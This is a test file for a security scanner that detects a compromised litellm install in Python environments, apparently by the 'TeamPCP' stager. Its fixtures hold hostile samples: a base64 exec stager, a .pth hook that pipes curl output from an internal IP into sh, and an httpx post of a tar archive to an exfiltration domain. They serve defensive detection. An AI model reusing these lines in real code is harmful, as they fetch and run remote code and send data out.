import { describe, expect, it } from 'vitest';
import type { HostInventory, PythonEnvironment, StartupHookFile } from '../model/index.js';
import { matchSignatures } from '../domain/iocs/signatures.js';
import { classifyPthContent } from '../domain/python/pth-audit.js';
import { buildReport } from './build-report.js';
import { findContentSignatures } from './content-signature.js';
import { buildAdvisoryIndex } from '../domain/advisories/advisory-index.js';
import { generateChecklist } from '../checklist/checklist.js';

const SITE = '/usr/local/lib/python3.11/site-packages';
const STAGER = `exec(base64.b64decode('aW1wb3J0IG9z${'Q'.repeat(300)}kI2NF9TQ1JJUFQgPSAiYV'))`;

function hook(name: 'sitecustomize' | 'usercustomize', text: string, extra: Partial<StartupHookFile> = {}): StartupHookFile {
  return { path: `${SITE}/${name}.py`, kind: name, sha256: 'cd'.repeat(32), owner: null, signatures: matchSignatures(text, 'customize'), ...extra };
}

function hostWith(environment: Partial<PythonEnvironment>, container: string | null = 'litellm'): HostInventory {
  return {
    name: 'gw',
    address: 'root@gw:22',
    status: 'ok',
    facts: null,
    containers: [],
    pythonEnvironments: [{ path: SITE, container, packages: [], ...environment }],
  };
}

describe('content-signature findings', () => {
  it('flags a sitecustomize.py holding the TeamPCP stager as critical, naming each signature with its source', () => {
    const [finding] = findContentSignatures([hostWith({ startupHooks: [hook('sitecustomize', `import base64\n${STAGER}\n`)] })]);

    expect(finding).toMatchObject({
      kind: 'content-signature',
      severity: 'critical',
      id: `content-signature:gw:container=litellm:${SITE}/sitecustomize.py`,
      file: 'sitecustomize',
      container: 'litellm',
      sha256: 'cd'.repeat(32),
    });
    expect(finding!.signatures[0]).toBe('teampcp-litellm-stager');
    expect(finding!.signatures).toContain('exec-of-decoded-text');
    const evidence = finding!.evidence.join('\n');
    expect(evidence).toContain('SigmaHQ');
    expect(evidence).toContain('secondary');
    expect(evidence).toContain('line 2:');
  });

  it('makes no finding for a benign sitecustomize.py or usercustomize.py', () => {
    const findings = findContentSignatures([
      hostWith({ startupHooks: [hook('sitecustomize', 'import sys\nsys.dont_write_bytecode = True\n'), hook('usercustomize', 'import os\n')] }),
    ]);

    expect(findings).toEqual([]);
  });

  it('rates a start-up hook that only has a payload shape (a process start) high, not critical', () => {
    const text = 'import os; os.system("curl -s http://10.0.0.9/x | sh")';
    const [finding] = findContentSignatures([
      hostWith({ pthFiles: [{ path: `${SITE}/zz.pth`, sha256: null, owner: null, ...classifyPthContent(text), signatures: matchSignatures(text, 'pth') }] }, null),
    ]);

    expect(finding).toMatchObject({ severity: 'high', file: 'pth', signatures: ['startup-hook-spawns-process'], sha256: '', container: null });
    expect(finding!.evidence.join('\n')).toContain('heuristic');
  });

  it('flags a file of a flagged distribution whose text holds the exfiltration domain, as package-file', () => {
    const text = 'import httpx\nhttpx.post("https://models.litellm.cloud/", headers={"X-Filename": "tpcp.tar.gz"})\n';
    const [finding] = findContentSignatures([
      hostWith({
        packages: [
          {
            name: 'litellm',
            version: '1.82.7',
            metadataPath: `${SITE}/litellm-1.82.7.dist-info`,
            contentMatches: [{ path: 'litellm/proxy/proxy_server.py', signatures: matchSignatures(text, 'package-file') }],
          },
        ],
      }),
    ]);

    expect(finding).toMatchObject({ severity: 'critical', file: 'package-file', package: 'litellm', path: `${SITE}/litellm/proxy/proxy_server.py` });
    expect(finding!.signatures).toEqual(expect.arrayContaining(['litellm-exfil-domain-in-code', 'teampcp-exfil-archive']));
  });

  it('counts the place as exposed in the report: the host is isolated in the plan', () => {
    const report = buildReport([hostWith({ startupHooks: [hook('sitecustomize', STAGER)] })], buildAdvisoryIndex([]), new Date('2026-04-01T00:00:00Z'));
    const finding = report.findings.find((candidate) => candidate.kind === 'content-signature');

    expect(finding?.severity).toBe('critical');
    const isolate = generateChecklist(report).find((step) => step.id === 'contain:isolate-host:gw');
    expect(isolate?.findingIds).toContain(finding!.id);
  });
});
